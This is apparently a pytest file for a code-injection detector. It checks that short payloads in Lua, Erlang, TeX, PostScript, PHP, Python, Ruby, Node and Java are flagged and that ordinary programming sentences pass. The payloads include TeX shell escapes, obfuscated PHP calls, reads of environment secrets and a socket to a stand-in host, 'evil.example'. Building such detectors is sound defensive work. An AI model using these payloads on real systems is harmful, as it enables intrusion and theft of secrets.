"""Code of languages that fewer servers run, and lines that say much only where they are alone."""

from __future__ import annotations

import pytest
from tests.support.suspects import STOPS, Suspects

from vallum.inspection.detectors.code import DETECTOR

SUSPECTS = Suspects(DETECTOR)


@pytest.mark.parametrize(
    ("text", "rule"),
    [
        ("loadstring('return os.getenv(\"HOME\")')()", "code.lua"),
        ("os.execute('whoami')", "code.lua"),
        ("dofile('/tmp/a.lua')", "code.lua"),
        ('os:cmd("whoami").', "code.erlang"),
        ("erlang:open_port({spawn, whoami}, [])", "code.erlang"),
        ("file:read_file(secret)", "code.erlang"),
        ('System.shell("whoami")', "code.erlang"),
        ('Code.eval_string("1 + 1")', "code.erlang"),
        ('Unix.system "whoami"', "code.ocaml"),
        ("new Deno.Command('whoami')", "code.deno"),
        ("Bun.spawnSync(['whoami'])", "code.deno"),
        ('<cffile action="read" file="/tmp/a" variable="b">', "code.coldfusion"),
        ("<cfoutput>#6*9#</cfoutput>", "code.coldfusion"),
        ("#application.datasource#", "code.coldfusion"),
        (r"\immediate\write18{whoami}", "code.tex"),
        (r"\input|whoami", "code.tex"),
        (r"\directlua{os.execute('whoami')}", "code.tex"),
        (r"\newread\f \openin\f=secret.txt", "code.tex"),
        (r"\lstinputlisting{/etc/hosts}", "code.tex"),
        ("%!PS\n(%pipe%whoami) (r) file", "code.postscript"),
        ("(~'\x8f\x8e')('x');", "code.php_computed_call"),
        ("('[|{'^'<.\"')()", "code.php_computed_call"),
        ("'.print(sha1(7)).'", "code.php_call"),
        ("print(42);", "code.php_call"),
        ("putenv('LD_PRELOAD=a.so')", "code.php_call"),
        ("new SplFileObject('/tmp/a')", "code.php_call"),
        ("breakpoint()", "code.python_call"),
        ("sys.modules['posix']", "code.python_call"),
        ("os.environ['HOME']", "code.python_call"),
        ("execfile('/tmp/a.py')", "code.python_call"),
        ("[].__class__", "code.python_object"),
        ("{user.__init__}", "code.python_object"),
        ("send(:exec, 'whoami')", "code.ruby_call"),
        ("ENV['DATABASE_URL']", "code.ruby_call"),
        ("Dir['/tmp/*']", "code.ruby_call"),
        ("puts `whoami`", "code.ruby_call"),
        ("response.end(17*17)", "code.node_process"),
        ("'+process.env.TOKEN+'", "code.node_process"),
        ('Eval.me("1+1")', "code.java_call"),
        ('new URL("http://a.example/x").text', "code.java_call"),
        ("Thread.sleep(9000)", "code.java_call"),
        ("hudson.model.Hudson.instance", "code.java_call"),
        ("Environment.Exit(1)", "code.java_call"),
        ("''.GetType()", "code.java_call"),
        ('"".GetType().GetFields()', "code.dotnet"),
        ('<c:import url="http://a.example/"/>', "code.server_page"),
        ("<jsp:scriptlet>x();</jsp:scriptlet>", "code.server_page"),
        ('<sql:query var="a">SELECT 1</sql:query>', "code.server_page"),
        ('(clojure.java.shell/sh "whoami")', "code.clojure"),
        ("#fileRead('/tmp/a')#", "code.coldfusion"),
        (r"\def\x{\x\x}", "code.tex"),
        ("time.sleep(20)", "code.python_call"),
        ("import sys, socket, subprocess", "code.python_call"),
        ("'%(a.__class__)s'", "code.python_call"),
        ("compile('a=1', 'b', 'single')", "code.python_call"),
        ("JSON.stringify(process.env)", "code.node_process"),
        ("Thread.currentThread().sleep(4000)", "code.java_call"),
        ('new Socket("evil.example", 4444)', "code.java_call"),
        ("puts ENV.to_h", "code.ruby_call"),
    ],
)
def test_code_of_other_languages_is_stopped(text: str, rule: str) -> None:
    found = SUSPECTS.judge(text)
    assert max(each.score for _, each in found) >= STOPS
    assert rule in {each.rule for _, each in found}


@pytest.mark.parametrize(
    "text",
    [
        'local f = require("foo"); print(os.time())',
        "os.exit ends a program in Lua",
        "erlang is fun, and System.out.println too",
        "Deno.run is deprecated, use Deno.Command instead of it",
        "#application deadline is on #cgi.fi#",
        r"\documentclass{article} \makeatletter \catcode`\@=11 \begin{document} x \end{document}",
        r"\input{chapters/intro} and \frac{1}{2}",
        "'a'^'b' is exclusive or",
        "f(~5)(3)",
        "new ZipArchive() fails in my code when the file is missing",
        'print("hello world")',
        "eval() is evil",
        "I like Ruby, but eval() is evil, and system() too",
        "$sum(Invoice.Lines.(Price * Count))",
        '$map(Account.Order, function($o) { $o.Name & "x" })',
        "os.environ.get('HOME') returns None in my lambda, why?",
        "In the handler we call sys.exit(1) when the configuration is missing",
        "type(self).__name__ and self.__class__.__name__",
        "I use ENV['HOME'] in my Rakefile and it fails",
        "try { Thread.sleep(100); } catch (InterruptedException e) { }",
        "app.get('/', (req, res) => res.send('Hello World'))",
        "var x = obj.GetType().Name;",
        '<c:forEach items="x">',
        "time.sleep(5) blocks the loop, await asyncio.sleep(5) instead",
        "from time import sleep",
        "import os",
        'os.getenv("HOME")',
        "sys.exit(main())",
        "res.send(200) is deprecated",
        "Thread.sleep(100)",
        r"C:\newread\write",
        "shutil.rmtree is slow on Windows",
        "JSON.stringify(value, null, 2)",
        r"\def\arraystretch{1.5}",
        "Socket s = new Socket(host, port); s.close();",
    ],
)
def test_words_and_lines_of_programs_pass(text: str) -> None:
    assert SUSPECTS.score(text, "body") < STOPS
